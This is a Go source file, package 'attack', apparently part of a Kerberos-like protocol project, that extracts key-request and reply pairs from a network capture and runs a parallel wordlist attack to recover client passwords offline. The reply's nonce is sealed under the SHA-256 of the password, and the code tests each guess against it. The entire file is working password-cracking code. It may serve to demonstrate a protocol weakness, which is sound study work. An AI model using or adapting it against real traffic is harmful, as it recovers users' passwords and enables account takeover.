// Package attack recovers client passwords offline from a capture file.
//
// A REQUEST_SYMMETRIC_KEY request carries the client's nonce in clear and the
// matching reply carries the same nonce sealed under SHA-256 of the password.
// Any candidate password whose hash opens the sealed key and yields the sent
// nonce is the client's password.
package attack

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"

	"github.com/dmitrijs2005/gophkerb/internal/capture"
	"github.com/dmitrijs2005/gophkerb/internal/cryptox"
	"github.com/dmitrijs2005/gophkerb/internal/envelope"
	"github.com/dmitrijs2005/gophkerb/internal/identity"
	"github.com/dmitrijs2005/gophkerb/internal/protocol"
	"golang.org/x/sync/errgroup"
)

var ErrNoExchange = errors.New("no key request/response pair in capture")

// Exchange is one observed key request and its reply.
type Exchange struct {
	ClientID   identity.ID
	ServerID   identity.ID
	Nonce      envelope.Nonce
	SessionKey []byte
}

// Result is a recovered password.
type Result struct {
	ClientID identity.ID
	Password string
}

// Extract pairs every key request with the next successful reply flowing
// the opposite way between the same two endpoints.
func Extract(entries []capture.Entry) ([]Exchange, error) {
	var out []Exchange
	used := make(map[int]bool)

	for i, e := range entries {
		if protocol.Code(e.Code) != protocol.RequestSymmetricKey {
			continue
		}
		client, req, err := parseRequest(e)
		if err != nil {
			return nil, fmt.Errorf("entry %d: %w", i, err)
		}
		for j := i + 1; j < len(entries); j++ {
			r := entries[j]
			if used[j] || protocol.Code(r.Code) != protocol.RequestSymmetricKeySuccess || r.Src != e.Dst || r.Dst != e.Src {
				continue
			}
			resp, err := parseResponse(r)
			if err != nil {
				return nil, fmt.Errorf("entry %d: %w", j, err)
			}
			if resp.ClientID != client {
				continue
			}
			sk, err := resp.SessionKey.Marshal()
			if err != nil {
				return nil, fmt.Errorf("entry %d: %w", j, err)
			}
			used[j] = true
			out = append(out, Exchange{ClientID: client, ServerID: req.ServerID, Nonce: req.Nonce, SessionKey: sk})
			break
		}
	}
	if len(out) == 0 {
		return nil, ErrNoExchange
	}
	return out, nil
}

func parseRequest(e capture.Entry) (identity.ID, *protocol.KeyRequestBody, error) {
	frame, err := e.Frame()
	if err != nil {
		return identity.ID{}, nil, err
	}
	m, err := decodeFrame(frame, true)
	if err != nil {
		return identity.ID{}, nil, err
	}
	body, ok := m.Body.(*protocol.KeyRequestBody)
	if !ok {
		return identity.ID{}, nil, fmt.Errorf("%w: not a key request", protocol.ErrMalformedFrame)
	}
	return m.Header.ClientID, body, nil
}

func parseResponse(e capture.Entry) (*protocol.KeyResponseBody, error) {
	frame, err := e.Frame()
	if err != nil {
		return nil, err
	}
	m, err := decodeFrame(frame, false)
	if err != nil {
		return nil, err
	}
	body, ok := m.Body.(*protocol.KeyResponseBody)
	if !ok {
		return nil, fmt.Errorf("%w: not a key response", protocol.ErrMalformedFrame)
	}
	return body, nil
}

func decodeFrame(frame []byte, request bool) (*protocol.Message, error) {
	n := protocol.Header{Request: request}.Size()
	if len(frame) < n {
		return nil, fmt.Errorf("%w: %d byte frame", protocol.ErrShortFrame, len(frame))
	}
	h, err := protocol.DecodeHeader(frame[:n], request)
	if err != nil {
		return nil, err
	}
	return protocol.Decode(h, frame[n:])
}

// Crack tries every word against ex with the given number of workers. It
// returns the password and true on a hit.
func Crack(ctx context.Context, ex Exchange, words []string, workers int) (string, bool, error) {
	if workers <= 0 {
		workers = runtime.NumCPU()
	}
	g, ctx := errgroup.WithContext(ctx)
	ctx, stop := context.WithCancel(ctx)
	defer stop()

	feed := make(chan string)
	found := make(chan string, 1)

	g.Go(func() error {
		defer close(feed)
		for _, w := range words {
			select {
			case feed <- w:
			case <-ctx.Done():
				return nil
			}
		}
		return nil
	})

	for range workers {
		g.Go(func() error {
			for w := range feed {
				ok, err := Try(ex, w)
				if err != nil {
					return err
				}
				if ok {
					select {
					case found <- w:
					default:
					}
					stop()
					return nil
				}
			}
			return nil
		})
	}

	if err := g.Wait(); err != nil {
		return "", false, err
	}
	select {
	case w := <-found:
		return w, true, nil
	default:
		return "", false, nil
	}
}

// Try reports whether password opens the exchange's session key and yields
// the nonce the client sent. Only a missing cipher backend is an error.
func Try(ex Exchange, password string) (bool, error) {
	sk, err := envelope.ParseSessionKey(ex.SessionKey)
	if err != nil {
		return false, err
	}
	hash := cryptox.HashPassword([]byte(password))
	if err := sk.Decrypt(hash[:]); err != nil {
		if errors.Is(err, envelope.ErrCipherUnavailable) {
			return false, err
		}
		return false, nil
	}
	defer sk.Key.Wipe()
	return sk.Nonce == ex.Nonce, nil
}

// Run cracks every exchange in the capture and returns the hits.
func Run(ctx context.Context, entries []capture.Entry, words []string, workers int) ([]Result, error) {
	exchanges, err := Extract(entries)
	if err != nil {
		return nil, err
	}
	var out []Result
	for _, ex := range exchanges {
		pw, ok, err := Crack(ctx, ex, words, workers)
		if err != nil {
			return out, err
		}
		if ok {
			out = append(out, Result{ClientID: ex.ClientID, Password: pw})
		}
	}
	return out, nil
}

// ReadWordlist returns one candidate per non-blank line, surrounding
// whitespace removed.
func ReadWordlist(r io.Reader) ([]string, error) {
	var out []string
	sc := bufio.NewScanner(r)
	for sc.Scan() {
		if w := strings.TrimSpace(sc.Text()); w != "" {
			out = append(out, w)
		}
	}
	return out, sc.Err()
}
